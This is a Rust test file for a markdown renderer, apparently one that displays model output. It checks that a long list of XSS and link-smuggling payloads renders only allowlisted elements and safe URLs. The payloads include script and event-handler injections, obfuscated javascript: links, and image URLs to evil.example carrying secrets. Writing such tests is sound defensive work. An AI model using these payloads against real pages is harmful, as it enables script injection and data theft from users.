//! Whatever a model writes, the page gets elements, attributes and addresses from a short list only.

#[path = "support/page.rs"]
mod page;

use markdown::{Options, Stream, render};
use page::{Node, Page, parse};

/// Every element that may appear, with its attributes.
const ALLOWED: &[(&str, &[&str])] = &[
    ("a", &["href", "title", "rel", "target"]),
    ("blockquote", &[]),
    ("br", &[]),
    ("button", &["type", "class", "data-src", "title"]),
    ("code", &["class"]),
    ("del", &[]),
    ("div", &["class", "id", "role", "tabindex", "aria-label"]),
    ("em", &[]),
    ("figcaption", &[]),
    ("figure", &["class", "data-language"]),
    ("h1", &["id"]),
    ("h2", &["id"]),
    ("h3", &["id"]),
    ("h4", &["id"]),
    ("h5", &["id"]),
    ("h6", &["id"]),
    ("hr", &[]),
    ("input", &["type", "disabled", "checked"]),
    ("li", &[]),
    ("ol", &["class", "start"]),
    ("p", &["class"]),
    ("pre", &["tabindex"]),
    ("span", &["class"]),
    ("strong", &[]),
    ("sup", &["class"]),
    ("table", &[]),
    ("tbody", &[]),
    ("td", &["class"]),
    ("th", &["class"]),
    ("thead", &[]),
    ("tr", &[]),
    ("ul", &["class"]),
];

const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "text <b onmouseover=alert(1)>x</b>",
    "<math><mtext></p><img src onerror=alert(1)>",
    "<!--><script>alert(1)</script>-->",
    "<style>*{background:url(https://evil.example)}</style>",
    "<form action=https://evil.example><button>x</button></form>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](\u{1}javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](https:evil.example)",
    "[x](https:\\\\evil.example)",
    "[x](https://good.example\\@evil.example)",
    "[x](https://%65vil.example/)",
    "[x](https://e.x/\"onclick=\"alert(1))",
    "[x](https://e.x 'a\" onclick=\"alert(1)')",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "[y]: data:text/html,x \"t\"\n\n[y]",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "![x](https://evil.example/?secret=1)",
    "![x][y]\n\n[y]: https://evil.example/?secret=1",
    "![x][]\n\n[x]: https://evil.example/?secret=1",
    "![x]\n\n[x]: https://evil.example/?secret=1",
    "[![x](https://evil.example/i.png)](https://evil.example/)",
    "[x ![y](javascript:alert(1))](javascript:alert(2))",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![\"onload=alert(1)](https://e.x/i)",
    "```\"onclick=alert(1)\nx\n```",
    "```x\" class=\"y\n</code></pre><script>alert(1)</script>\n```",
    "[^\"><script>alert(1)</script>]\n\n[^\"><script>alert(1)</script>]: x",
    "| <script> |\n|---|\n| ![x](https://evil.example/) |",
    "> [!NOTE]\n> <img src=x onerror=alert(1)>",
    "# <img src=x onerror=alert(1)>",
    "\0<script>\0alert(1)</script>",
    "https://evil.example/\"><script>alert(1)</script>",
    "www.evil.example/'onclick='alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\<script>alert(1)\\</script>",
];

fn check(nodes: &[Node], inside: &[&str], source: &str) {
    for node in nodes {
        let Node::Element { name, attributes, children } = node else { continue };
        let (_, allowed) = ALLOWED
            .iter()
            .find(|(element, _)| element == name)
            .unwrap_or_else(|| panic!("<{name}> in {source:?}"));
        assert!(!(name == "a" && inside.contains(&"a")), "a link in a link: {source:?}");
        for (attribute, value) in attributes {
            assert!(allowed.contains(&attribute.as_str()), "{attribute} of <{name}> in {source:?}");
            let value = &value.to_ascii_lowercase();
            let is_web = value.starts_with("http://") || value.starts_with("https://");
            match attribute.as_str() {
                "href" => assert!(
                    is_web || value.starts_with("mailto:") || value.starts_with("#m-note-"),
                    "{value} in {source:?}"
                ),
                "data-src" => assert!(is_web, "{value} in {source:?}"),
                "rel" => assert_eq!(value, "noopener noreferrer nofollow"),
                "target" => assert_eq!(value, "_blank"),
                "id" => assert!(value.starts_with("m-"), "{value} in {source:?}"),
                _ => {}
            }
        }
        let inside: Vec<&str> = inside.iter().copied().chain([name.as_str()]).collect();
        check(children, &inside, source);
    }
}

fn options() -> Options {
    Options { id_prefix: "m-".to_owned(), ..Options::default() }
}

#[test]
fn attacks_yield_allowed_elements_only() {
    for attack in ATTACKS {
        for source in [
            (*attack).to_owned(),
            format!("- {attack}\n"),
            format!("> a {attack} b\n"),
            format!("a\n\n{attack}\n\nb {attack}"),
        ] {
            check(&parse(&render(&source, &options())), &[], &source);
            let mut stream = Stream::new(options());
            let mut page = Page::default();
            for (at, c) in source.char_indices() {
                page.apply(&stream.push(&source[at..at + c.len_utf8()]));
                check(&page.tree(), &[], &source[..at]);
            }
        }
    }
}

#[test]
fn examples_yield_allowed_elements_only() {
    for name in ["spec", "regression", "footnotes", "table", "blockquotes_tags"] {
        for (source, _) in page::examples(name) {
            check(&parse(&render(&source, &options())), &[], &source);
        }
    }
}
